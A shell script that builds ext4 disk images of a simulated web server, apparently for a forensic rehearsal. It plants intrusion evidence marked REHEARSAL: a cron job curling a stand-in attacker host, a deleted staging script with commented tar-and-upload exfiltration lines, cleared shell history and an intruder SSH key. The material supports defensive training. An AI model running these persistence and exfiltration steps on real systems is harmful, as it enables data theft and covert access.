#!/bin/sh
# Makes web-root.blocks and web-data.blocks, the file systems on the simulated
# account's volumes. Run it here after changing what is planted; it needs
# e2fsprogs 1.47 and Go, and gives the same bytes every time.
#
# Nothing planted does anything: what looks like a web shell is a comment, the
# keys are not keys, the addresses are those reserved for documentation
# (RFC 5737), and every file says REHEARSAL.
set -eu
cd "$(dirname "$0")"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
image=

# at TIME: what follows happens then (UTC). Each e2fsprogs call reads it.
at() { E2FSPROGS_FAKE_TIME=$(date -u -d "$1" +%s) && export E2FSPROGS_FAKE_TIME; }

run() { debugfs -w -f - "$image" >"$work/out" 2>&1; }

# format NAME SIZE UUID: metadata checksums, 64-bit, extents, as Amazon Linux has
# them; a small journal keeps the embedded data small.
format() {
	image=$work/$1
	truncate -s "$2" "$image"
	mke2fs -q -t ext4 -b 4096 -I 256 -J size=4 -L "$1" -U "$3" \
		-E "hash_seed=$3,lazy_itable_init=1,lazy_journal_init=1,nodiscard,root_owner=0:0" "$image"
}

# owner PATH UID GID MODE
owner() {
	printf 'sif %s uid %s\nsif %s gid %s\nsif %s mode %s\n' "$1" "$2" "$1" "$3" "$1" "$4" | run
}

dir() { # PATH UID GID MODE
	echo "mkdir $1" | run
	owner "$1" "$2" "$3" "004$4"
}

file() { # PATH UID GID MODE <content
	cat >"$work/content"
	printf 'cd %s\nwrite %s %s\n' "$(dirname "$1")" "$work/content" "$(basename "$1")" | run
	owner "$1" "$2" "$3" "0100$4"
}

remove() { echo "rm $1" | run; } # frees the blocks; the inode keeps its extents

web_root() {
	at '2026-01-12 08:00:00'
	format web-root 2G 5e1f0b6a-3f0c-4d8e-9a51-7c0de0c0ffee
	for d in /etc /etc/cron.d /home /root /var /var/log /var/log/nginx /var/spool /var/www /var/www/html; do
		dir $d 0 0 0755
	done
	dir /tmp 0 0 1777
	dir /var/tmp 0 0 1777
	dir /home/ec2-user 1000 1000 0700
	dir /home/ec2-user/.ssh 1000 1000 0700
	dir /var/www/html/uploads 48 48 0755
	file /etc/hostname 0 0 644 <<-'END'
		web-1
	END
	file /etc/os-release 0 0 644 <<-'END'
		NAME="Amazon Linux"
		VERSION="2023"
		ID="amzn"
		VARIANT="REHEARSAL: a file system of cordon's simulated account"
	END
	file /etc/passwd 0 0 644 <<-'END'
		root:x:0:0:root:/root:/bin/bash
		apache:x:48:48:Apache:/usr/share/httpd:/sbin/nologin
		ec2-user:x:1000:1000:EC2 Default User:/home/ec2-user:/bin/bash
	END
	file /etc/fstab 0 0 644 <<-'END'
		UUID=5e1f0b6a-3f0c-4d8e-9a51-7c0de0c0ffee / ext4 defaults,noatime 1 1
		UUID=0da7a000-51e5-4b1d-8c2e-0ddba11ca11e /srv ext4 defaults,noatime 0 2
	END
	file /home/ec2-user/.ssh/authorized_keys 1000 1000 600 <<-'END'
		# REHEARSAL: these are not keys
		ssh-ed25519 NOT-A-KEY-REHEARSAL-operations ops@example.com
		ssh-ed25519 NOT-A-KEY-REHEARSAL-intruder kali@203.0.113.66
	END
	file /var/www/html/index.php 48 48 644 <<-'END'
		<?php /* REHEARSAL */ ?>
		<!doctype html><title>Shop</title><h1>Shop</h1>
	END
	file /var/www/html/health 48 48 644 <<-'END'
		ok
	END

	at '2026-03-02 02:11:09'
	file /var/www/html/uploads/thumb-7f3a.php 48 48 644 <<-'END'
		<?php
		// REHEARSAL: harmless. In a real case a one-line web shell would stand here,
		// running whatever the request's parameter "c" carries.
		http_response_code(404);
	END
	at '2026-03-02 02:14:40'
	file /etc/cron.d/php-sessions 0 0 644 <<-'END'
		# REHEARSAL: the intruder's way back in; the address is reserved for documentation
		*/10 * * * * apache curl -s http://203.0.113.66/s.txt -o /dev/null
	END
	at '2026-03-02 02:16:02'
	file /var/tmp/.stage.sh 48 48 755 <<-'END'
		#!/bin/sh
		# REHEARSAL: deleted by the intruder, to be found again by the examiner
		# tar -czf /var/tmp/.o.tgz /srv/orders
		# curl -T /var/tmp/.o.tgz http://203.0.113.66/drop/web-1
		echo "REHEARSAL: the staging script was recovered"
	END
	file /root/.bash_history 0 0 600 <<-'END'
		# REHEARSAL
		id
		uname -a
		cat /home/ec2-user/.ssh/authorized_keys
		vi /etc/cron.d/php-sessions
		sh /var/tmp/.stage.sh
		rm -f /var/tmp/.stage.sh
		history -c
	END
	file /var/log/nginx/access.log 0 0 640 <<-'END'
		198.51.100.23 - - [02/Mar/2026:02:09:51 +0000] "GET / HTTP/1.1" 200 73 "-" "Mozilla/5.0 REHEARSAL"
		203.0.113.66 - - [02/Mar/2026:02:11:09 +0000] "POST /upload.php HTTP/1.1" 200 12 "-" "curl/8.5.0"
		203.0.113.66 - - [02/Mar/2026:02:11:31 +0000] "POST /uploads/thumb-7f3a.php HTTP/1.1" 200 54 "-" "curl/8.5.0"
		203.0.113.66 - - [02/Mar/2026:02:16:44 +0000] "POST /uploads/thumb-7f3a.php HTTP/1.1" 200 31 "-" "curl/8.5.0"
		198.51.100.23 - - [02/Mar/2026:02:17:12 +0000] "GET /health HTTP/1.1" 200 3 "-" "ELB-HealthChecker/2.0"
	END
	file /var/log/secure 0 0 600 <<-'END'
		Mar  2 02:15:20 web-1 sshd[4121]: REHEARSAL Accepted publickey for ec2-user from 203.0.113.66 port 51022 ssh2
		Mar  2 02:15:27 web-1 sudo[4130]: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/bin/bash
	END
	at '2026-03-02 02:17:30'
	remove /var/tmp/.stage.sh
}

web_data() {
	at '2026-01-12 08:05:00'
	format web-data 1G 0da7a000-51e5-4b1d-8c2e-0ddba11ca11e
	dir /orders 48 48 0750
	dir /sessions 48 48 0700
	for month in 01 02; do
		for n in 1 2 3 4 5 6 7 8 9; do
			echo "2026-$month-0$n,REHEARSAL-order-$month$n,customer-$n@example.com,$((n * 19)).00"
		done | file /orders/2026-$month.csv 48 48 640
	done
	at '2026-03-02 02:16:20'
	file /orders/.dump.csv 48 48 640 <<-'END'
		REHEARSAL: collected for the way out, then deleted
		customer-1@example.com,19.00
		customer-2@example.com,38.00
		customer-3@example.com,57.00
	END
	file /sessions/sess_rehearsal 48 48 600 <<-'END'
		REHEARSAL|s:5:"guest";
	END
	at '2026-03-02 02:17:20'
	remove /orders/.dump.csv
}

for disk in web-root web-data; do
	case $disk in web-root) web_root ;; web-data) web_data ;; esac
	e2fsck -fn "$image" >/dev/null # a file system that needs repair is no evidence
	go run ../disk_pack.go <"$image" >$disk.blocks
done
